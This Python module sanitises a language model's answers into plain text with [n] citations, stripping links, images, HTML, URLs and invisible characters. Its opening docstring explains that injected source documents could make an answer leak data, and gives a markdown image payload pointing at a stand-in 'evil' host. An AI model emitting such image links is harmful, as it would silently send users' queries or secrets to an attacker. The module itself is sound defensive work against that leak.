"""A model's words on their way to people: plain text and [n], nothing that loads, links or runs.

An answer is made from documents that anyone may have written. So nothing in it may become a picture, a link or HTML
on a page: `![x](https://evil/?q=secret)` would tell a stranger what was asked without a click.
"""

from __future__ import annotations

import re

_MARKER = re.compile(
    r"[\[【]\s*\^?\s*(?:(?:sources?|quellen?|nr\.?|no\.?|refs?\.?)\s*:?\s*)?"
    r"(\d{1,3}(?:\s*(?:,|;|&|and|und|[-–])\s*(?:(?:source|quelle)\s*)?\d{1,3}){0,20})\s*(?:†[^\]】]{0,80})?[\]】]",
    re.IGNORECASE,
)
_RANGE = re.compile(r"(\d{1,3})\s*[-–]\s*(\d{1,3})")
_COMMENT = re.compile(r"<!--.{0,2000}?-->", re.DOTALL)
_TAG = re.compile(r"</?[a-zA-Z][^<>]{0,2000}>|<[a-zA-Z][a-zA-Z+.-]*:[^<>\s]{0,2000}>")
_LINK = re.compile(r"!?\[([^\[\]]{0,500})\]\([^()\n]{0,2000}(?:\([^()\n]{0,500}\)[^()\n]{0,500})?\)")
_ADDRESS = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{1,20}:)?//([^\s/<>\"'?#\])]*)[^\s<>\"'\])]*|\bwww\.([^\s/<>\"'?#\])]+)\S*", re.I
)
_HEADING = re.compile(r"\n[ \t]*(?:#{1,6}|>+)(?=\s|\Z)")
_BULLET = re.compile(r"\n([ \t]*)[*+](?=\s|\Z)")
_EMPHASIS = re.compile(r"\*\*+|~~+|`+|(?<=\S)\*|\*(?=\S)|(?<!\w)__+|__+(?!\w)")
_INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
_LIVE = (
    (re.compile(r"!(?=\[)"), "! "),
    (re.compile(r"\](?=\()"), "] "),
    (re.compile(r"<(?=[a-zA-Z/!?])"), "‹"),
    (re.compile(r"://"), ": //"),
    (re.compile(r"(?i)\bwww\."), "www "),
)
"""What would still be alive after all that, made inert; order matters."""

_OPENER = re.compile(r"[\[【]|(?<=\])\(|<(?=[a-zA-Z/!]|\Z)")
_CLOSERS = {"[": "]", "【": "】", "<": ">", "(": ")"}
_PATIENCE = 400
"""Characters for which a stream waits for a bracket to close on its line."""


def one_line(text: str) -> str:
    """The text on one line without characters that steer a terminal, hide, or turn the direction of writing."""
    return " ".join(_INVISIBLE.sub("", text.replace("\t", " ").replace("\r", " ").replace("\n", " ")).split())


def sanitise(text: str) -> str:
    """Plain text with citations as `[1]` or `[1][2]`: no links, pictures, HTML, markup or invisible characters."""
    stream = PlainStream()
    return stream.feed(text) + stream.finish()


class PlainStream:
    """The same for a text that arrives in pieces; what is given out is never taken back, whatever the pieces are."""

    def __init__(self) -> None:
        self._held = ""
        self._first = True

    def feed(self, piece: str) -> str:
        """What can be shown after this piece; words are given out whole."""
        given: list[str] = []
        self._held += piece
        while (cut := _safe_cut(self._held)) > 0:
            given.append(self._plain(self._held[:cut]))
            self._held = self._held[cut:]
        return "".join(given)

    def finish(self) -> str:
        """The rest; the stream is used up."""
        rest, self._held = self._held, ""
        return self._plain(rest).rstrip()

    def _plain(self, text: str) -> str:
        if not self._first:
            return _plain(text)
        given = _plain("\n" + text.lstrip()).lstrip()
        self._first = not given
        return given


def _plain(text: str) -> str:
    text = _INVISIBLE.sub("", text.replace("\r\n", "\n"))
    text = _MARKER.sub(_marker, text)
    text = _LINK.sub(lambda match: _kept(match.group(1)), text)
    text = _TAG.sub("", _COMMENT.sub("", text))
    text = _ADDRESS.sub(lambda match: match.group(1) or match.group(2) or "", text)
    text = _BULLET.sub(r"\n\1-", _HEADING.sub("\n", text))
    text = _EMPHASIS.sub("", text)
    for alive, inert in _LIVE:
        text = alive.sub(inert, text)
    return text


def _kept(label: str) -> str:
    """The words of a link; a bare number was a citation and stays one."""
    label = label.strip().lstrip("^")
    return f"[{label}]" if label.isdecimal() and len(label) <= 3 else label


def _marker(match: re.Match[str]) -> str:
    """Any way of writing a citation as [1][2]; a range is written out, up to ten numbers."""

    def written_out(span: re.Match[str]) -> str:
        low, high = int(span.group(1)), int(span.group(2))
        return ",".join(map(str, range(low, high + 1))) if low <= high < low + 10 else f"{low},{high}"

    return "".join(f"[{int(number)}]" for number in re.findall(r"\d+", _RANGE.sub(written_out, match.group(1))))


_STEP = re.compile(rf"\s|{_OPENER.pattern}")


def _safe_cut(held: str) -> int:
    """How much of the held text is decided: a word, up to white space outside brackets, or 0 to wait for more."""
    at = len(held) - len(held.lstrip())
    while step := _STEP.search(held, at):
        at = step.end()
        if step.group().isspace():
            return step.start() if held[at:].strip() else 0
        newline = held.find("\n", at, at + _PATIENCE)
        closed = held.find(_CLOSERS[step.group()], at, newline if newline >= 0 else at + _PATIENCE)
        if closed < 0 and newline < 0 and len(held) < at + _PATIENCE:
            return 0
        at = closed if closed >= 0 else at
    return 0
